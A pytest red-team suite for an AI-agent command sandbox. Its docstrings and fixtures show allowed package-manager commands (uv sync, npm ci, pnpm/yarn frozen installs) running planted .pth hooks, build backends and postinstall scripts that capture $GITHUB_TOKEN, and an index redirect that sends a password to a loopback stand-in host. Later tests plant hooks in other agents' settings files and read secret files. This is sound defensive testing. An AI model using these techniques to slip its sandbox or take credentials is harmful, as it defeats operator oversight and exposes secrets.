"""Red team 30: package managers' networked installs the default policy allows, which run
or fetch what the tree says from places the manifest checks do not look at, and agents'
settings the box does not know (each test fails while its attack works).

Real gatekeep CLI runs and real bubblewrap; no internet: a loopback server stands in for a
host of the agent's choosing. The secret is `$GITHUB_TOKEN` (or an index password), which a
box with the network keeps. The project lies outside the temp dirs, beside this repository
(`apart`) where a package manager's settings above it would matter. uv, pnpm and yarn are
needed on PATH for their tests (CI installs them; skipped otherwise)."""

from __future__ import annotations

import base64
import functools
import hashlib
import http.server
import json
import os
import shutil
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import leaks
import pytest

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")


def _needs(program: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(shutil.which(program) is None, reason=f"needs {program}")


Sandbox = object
TOKEN = "ghp-SEKRIT-30"
_run = functools.partial(leaks.run, token=TOKEN)
_check = functools.partial(leaks.check, token=TOKEN)


def _leaked(path: Path) -> bool:
    return path.exists() and TOKEN in path.read_text()


def _setup(*args: str | Path, cwd: Path, home: Path) -> None:
    """A package manager as the test's set-up (outside gatekeep), with the sandbox's home."""
    done = subprocess.run([str(a) for a in args], cwd=cwd, check=False, capture_output=True,
                          text=True, timeout=120,
                          env={**os.environ, "HOME": str(home), "GITHUB_TOKEN": ""})
    assert done.returncode == 0, done.stderr


def _git_project(settled: Sandbox) -> Path:
    work: Path = settled.work  # type: ignore[attr-defined]
    leaks.git("init", "-q", work)
    leaks.git("-C", work, "commit", "-q", "--allow-empty", "-m", "init")
    return work


class _Server:
    """A loopback HTTP server serving files from a dict, recording each request's path and
    Authorization header."""

    def __init__(self, files: dict[str, bytes]) -> None:
        self.seen: list[tuple[str, str | None]] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self, body: bool) -> None:
                owner.seen.append((self.path, self.headers.get("Authorization")))
                data = files.get(self.path.split("#", 1)[0].rstrip("/") or "/")
                if data is None:
                    self.send_response(404)
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if self.path.startswith("/simple")
                                 else "application/octet-stream")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                if body:
                    self.wfile.write(data)

            def do_GET(self) -> None:
                self._answer(True)

            def do_HEAD(self) -> None:
                self._answer(False)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server_factory() -> Iterator[list[_Server]]:
    started: list[_Server] = []
    yield started
    for server in started:
        server.close()


def _uv_project(work: Path, home: Path, pyproject: str) -> None:
    (work / "pyproject.toml").write_text(pyproject)
    _setup("uv", "lock", cwd=work, home=home)


# -- uv ---------------------------------------------------------------------------------

@_needs("uv")
@pytest.mark.parametrize("command", ["uv sync --frozen", "uv sync --frozen --compile-bytecode",
                                     "uv sync --locked --reinstall"])
def test_uv_sync_runs_the_project_environments_python_with_network_and_secrets(
        apart: Sandbox, tmp_path: Path, command: str) -> None:
    """`uv sync --frozen` is allowed (build-and-test) and boxed with the network: the
    project is virtual (no `[build-system]`, no `setup.py`), so manifests.runs_tree_code
    finds nothing of the tree's it runs. But uv runs the project environment's interpreter,
    `.venv/bin/python`, to learn what it is, and Python's `site` runs every `import` line
    of a `.pth` file in the environment's site-packages: a file the agent writes (`cp
    hook.pth .venv/lib/python3.X/site-packages/` is allowed). The hook gets the network
    and `$GITHUB_TOKEN`. Plain `uv sync --frozen` queries it while uv's interpreter cache
    has no entry for the environment (here: made by `uv venv`); `--compile-bytecode`,
    `--reinstall`, `--refresh` and `--no-cache` run it whatever the cache holds."""
    work = _git_project(apart)
    home: Path = apart.home  # type: ignore[attr-defined]
    _uv_project(work, home, '[project]\nname = "app"\nversion = "0.1.0"\n'
                'requires-python = ">=3.8"\ndependencies = []\n')
    _setup("uv", "venv", "-q", ".venv", cwd=work, home=home)
    leaked = tmp_path / "leaked.txt"
    (work / "hook.pth").write_text(
        f"import os; open({str(leaked)!r}, 'a').write(os.environ.get('GITHUB_TOKEN', ''))\n")
    site = next((work / ".venv" / "lib").glob("python3*/site-packages"))
    copy = f"cp hook.pth {site.relative_to(work)}/"
    assert _check(apart, copy, work).startswith("ALLOW")
    _run(apart, copy, work)
    assert (site / "hook.pth").exists()
    leaked.unlink(missing_ok=True)
    done = _run(apart, command, work)
    assert not _leaked(leaked), done.stderr


_BACKEND = """\
import os
open({leaked!r}, "a").write(os.environ.get("GITHUB_TOKEN", ""))

def _wheel(directory):
    import zipfile
    name = "lib-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("lib/__init__.py", "")
        wheel.writestr("lib-0.1.0.dist-info/METADATA",
                       "Metadata-Version: 2.1\\nName: lib\\nVersion: 0.1.0\\n")
        wheel.writestr("lib-0.1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\n"
                       "Root-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("lib-0.1.0.dist-info/RECORD", "")
    return name

def build_wheel(directory, config_settings=None, metadata_directory=None):
    return _wheel(directory)

def build_editable(directory, config_settings=None, metadata_directory=None):
    return _wheel(directory)
"""


@_needs("uv")
@pytest.mark.parametrize("source", ["workspace", "path"])
def test_uv_sync_builds_a_member_of_the_tree_with_network_and_secrets(
        apart: Sandbox, tmp_path: Path, source: str) -> None:
    """The root project is virtual, so `uv sync --frozen` gets the network; but it depends
    on `lib`, a workspace member (`[tool.uv.workspace]`) or a path source
    (`[tool.uv.sources] lib = { path = "packages/lib" }`) of the tree, which uv builds and
    installs: the member's build backend (here one of its own, `backend-path = ["."]`; a
    `setup.py` is the same) runs with the network and `$GITHUB_TOKEN`. The uv manifest
    entry knows no workspaces nor local sources, unlike npm's."""
    work = _git_project(apart)
    home: Path = apart.home  # type: ignore[attr-defined]
    leaked = tmp_path / "leaked.txt"
    member = work / "packages" / "lib"
    member.mkdir(parents=True)
    (member / "pyproject.toml").write_text(
        '[project]\nname = "lib"\nversion = "0.1.0"\nrequires-python = ">=3.8"\n'
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n')
    (member / "backend.py").write_text(_BACKEND.format(leaked=str(leaked)))
    sources = ('[tool.uv.sources]\nlib = { workspace = true }\n'
               '[tool.uv.workspace]\nmembers = ["packages/*"]\n') if source == "workspace" \
        else '[tool.uv.sources]\nlib = { path = "packages/lib", editable = true }\n'
    _uv_project(work, home, '[project]\nname = "app"\nversion = "0.1.0"\n'
                f'requires-python = ">=3.8"\ndependencies = ["lib"]\n{sources}')
    leaked.unlink(missing_ok=True)
    _run(apart, "uv sync --frozen", work)
    assert not _leaked(leaked)


def _wheel(name: str, version: str) -> bytes:
    from io import BytesIO

    buffer = BytesIO()
    info = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(buffer, "w") as wheel:
        wheel.writestr(f"{name}/__init__.py", "")
        wheel.writestr(f"{info}/METADATA",
                       f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\n"
                       "Root-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return buffer.getvalue()


@_needs("uv")
def test_uv_sync_sends_the_index_password_to_the_url_the_trees_pyproject_names(
        apart: Sandbox, server_factory: list[_Server]) -> None:
    """The operator keeps the credentials of the private index `internal` in the
    environment, uv's way (`UV_INDEX_INTERNAL_USERNAME`/`_PASSWORD`: a PASSWORD, a secret
    variable the networked box keeps). The agent points the index of that name at its own
    server in `pyproject.toml` (`[[tool.uv.index]]`) and `uv.lock`: `uv sync --frozen` (allowed,
    network on) sends it `Authorization: Basic` with the password. The uv entry lists no
    settings (`[tool.uv]`, `uv.toml`) and no lock/registry to judge, as npm's does."""
    work = _git_project(apart)
    home: Path = apart.home  # type: ignore[attr-defined]
    wheel = _wheel("foo", "1.0")
    digest = hashlib.sha256(wheel).hexdigest()
    name = "foo-1.0-py3-none-any.whl"
    page = f'<html><body><a href="/files/{name}#sha256={digest}">{name}</a></body></html>'
    server = _Server({"/simple/foo": page.encode(), f"/files/{name}": wheel})
    server_factory.append(server)
    _uv_project(work, home, '[project]\nname = "app"\nversion = "0.1.0"\n'
                'requires-python = ">=3.8"\ndependencies = ["foo"]\n'
                '[[tool.uv.index]]\nname = "internal"\n'
                f'url = "http://127.0.0.1:{server.port}/simple"\nexplicit = true\n'
                '[tool.uv.sources]\nfoo = { index = "internal" }\n')
    server.seen.clear()
    password = "s3cret-index-pw"
    apart.gatekeep(  # type: ignore[attr-defined]
        "run", "-c", "uv sync --frozen", cwd=work, timeout=120,
        env={"GITHUB_TOKEN": TOKEN, "UV_INDEX_INTERNAL_USERNAME": "ci",
             "UV_INDEX_INTERNAL_PASSWORD": password})
    sent = [base64.b64decode(auth.split()[-1]).decode(errors="replace")
            for _, auth in server.seen if auth]
    assert not any(password in s for s in sent), sent


# -- npm, pnpm, yarn --------------------------------------------------------------------

@_needs("npm")
def test_npm_ci_runs_the_install_script_of_a_package_the_lock_links_from_the_tree(
        apart: Sandbox, tmp_path: Path) -> None:
    """`package.json` names a plain range (`is-number: ^6.0.0`), no script, no workspace,
    no local spec, so `npm ci` is allowed with the network. Its lock links the package
    to a directory of the tree (`"resolved": "evil", "link": true`): manifests._registry
    passes any lock source that is a path in the tree, and npm ci runs that directory's
    `postinstall` with the network and `$GITHUB_TOKEN`."""
    work = _git_project(apart)
    leaked = tmp_path / "leaked.txt"
    (work / "evil").mkdir()
    (work / "evil" / "package.json").write_text(json.dumps(
        {"name": "is-number", "version": "6.0.0",
         "scripts": {"postinstall": f'printf %s "$GITHUB_TOKEN" > {leaked}'}}))
    (work / "package.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0", "dependencies": {"is-number": "^6.0.0"}}))
    (work / "package-lock.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
         "packages": {"": {"name": "app", "version": "1.0.0",
                           "dependencies": {"is-number": "^6.0.0"}},
                      "node_modules/is-number": {"resolved": "evil", "link": True},
                      "evil": {"name": "is-number", "version": "6.0.0",
                               "hasInstallScript": True}}}))
    _run(apart, "npm ci", work)
    assert not _leaked(leaked)


def _tarball(leaked: Path) -> bytes:
    import io
    import tarfile

    manifest = json.dumps({"name": "evilpkg", "version": "1.0.0", "scripts": {
        "postinstall": f'printf %s "$GITHUB_TOKEN" > {leaked}'}}).encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        info = tarfile.TarInfo("package/package.json")
        info.size = len(manifest)
        tar.addfile(info, io.BytesIO(manifest))
    return buffer.getvalue()


@pytest.mark.parametrize("manager", ["pnpm", "yarn"])
def test_a_frozen_install_runs_a_package_from_a_url_the_tree_names(
        apart: Sandbox, tmp_path: Path, server_factory: list[_Server], manager: str) -> None:
    """`pnpm install --frozen-lockfile` and `yarn install --frozen-lockfile` are allowed with
    the network. `package.json` names a dependency by a tarball's URL on a host of the
    agent's choosing, and the lock the package manager wrote for it resolves it there:
    `npm ci` of the same project is asked (`not the default registry`), but pnpm's and
    yarn's locks are never read (the entries have no `registry`), so the tarball's
    `postinstall` runs with the network and `$GITHUB_TOKEN`."""
    if shutil.which(manager) is None:
        pytest.skip(f"needs {manager}")
    work = _git_project(apart)
    home: Path = apart.home  # type: ignore[attr-defined]
    leaked = tmp_path / "leaked.txt"
    server = _Server({"/evilpkg.tgz": _tarball(leaked)})
    server_factory.append(server)
    (work / "package.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0",
         "dependencies": {"evilpkg": f"http://127.0.0.1:{server.port}/evilpkg.tgz"}}))
    lock_only = ["pnpm", "install", "--lockfile-only"] if manager == "pnpm" \
        else ["yarn", "install", "--ignore-scripts", "--non-interactive"]
    _setup(*lock_only, cwd=work, home=home)
    shutil.rmtree(work / "node_modules", ignore_errors=True)
    leaked.unlink(missing_ok=True)
    _run(apart, f"{manager} install --frozen-lockfile", work)
    assert not _leaked(leaked)


# -- agents' settings -------------------------------------------------------------------

@pytest.mark.parametrize(("setting", "command"), [
    (".factory/settings.json", "mkdir -p .factory && cp hooks.json .factory/settings.json"),
    (".clinerules/hooks/PreToolUse",
     "mkdir -p .clinerules/hooks && cp hook.sh .clinerules/hooks/PreToolUse"
     " && chmod +x .clinerules/hooks/PreToolUse"),
], ids=["factory", "cline"])
def test_settings_of_other_agents_that_run_hooks_are_not_written_unasked(
        settled: Sandbox, setting: str, command: str) -> None:
    """Factory Droid runs the hooks of the project's `.factory/settings.json` and Cline the
    executables in `.clinerules/hooks/`, outside any box, at the operator's next session:
    the same class as `.claude/settings.json`, opencode's or Crush's settings, which the
    box protects and a run that makes them has removed. These two are in neither
    `AGENT_FILES` nor `protect.write`: allowed, written, kept, nothing said."""
    work = _git_project(settled)
    (work / "hooks.json").write_text(json.dumps({"hooks": {"SessionStart": [{"hooks": [
        {"type": "command", "command": "touch /tmp/pwned-by-factory"}]}]}}))
    (work / "hook.sh").write_text("#!/bin/sh\ntouch /tmp/pwned-by-cline\n")
    decided = _check(settled, command, work)
    if decided.startswith("ALLOW"):
        _run(settled, command, work)
    assert not (work / setting).exists()


# -- secret files -----------------------------------------------------------------------

@pytest.mark.parametrize(("name", "text"), [
    ("prod.env", "DATABASE_PASSWORD=SEKRIT-30\n"),                          # compose env_file
    (".envrc", "export OPENAI_API_KEY=sk-live-SEKRIT-30\n"),                  # direnv
    (".dev.vars", "API_TOKEN=SEKRIT-30\n"),                                   # Wrangler
    ("auth.json", '{"github-oauth": {"github.com": "ghp_SEKRIT-30"}}\n'),     # Composer
    (".pgpass", "db.example.com:5432:*:app:SEKRIT-30\n"),                     # PostgreSQL
    ("local.settings.json",                                                   # Azure Functions
     '{"Values": {"AzureWebJobsStorage": "AccountKey=SEKRIT-30"}}\n'),
    ("terraform.tfvars", 'db_password = "SEKRIT-30"\n'),                      # Terraform
], ids=lambda value: value if "SEKRIT" not in value else "")
def test_a_tools_secret_file_in_the_tree_is_not_printed(
        settled: Sandbox, name: str, text: str) -> None:
    """`protect.read` hides `.env`, `.env.*`, `.npmrc`, `secrets.*`... in the tree, but
    not the files other everyday tools keep their secrets in: `cat` is allowed and the
    box shows them, so the value reaches the agent."""
    work = _git_project(settled)
    (work / name).write_text(text)
    done = _run(settled, f"cat {name}", work)
    assert "SEKRIT-30" not in done.stdout + done.stderr
